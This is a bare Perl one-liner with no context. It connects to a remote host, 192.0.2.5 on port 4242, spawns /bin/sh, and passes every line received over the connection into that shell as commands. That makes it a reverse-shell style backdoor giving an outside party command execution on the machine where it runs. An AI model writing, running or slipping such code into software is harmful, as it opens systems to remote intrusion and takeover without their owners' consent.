use IO::Socket;use IPC::Open3;my $s=IO::Socket::INET->new(PeerHost=>"192.0.2.5",PeerPort=>4242);my $pid=open3(my $in,my $out,my $err,"/bin/sh");while(my $l=<$s>){print $in $l;}
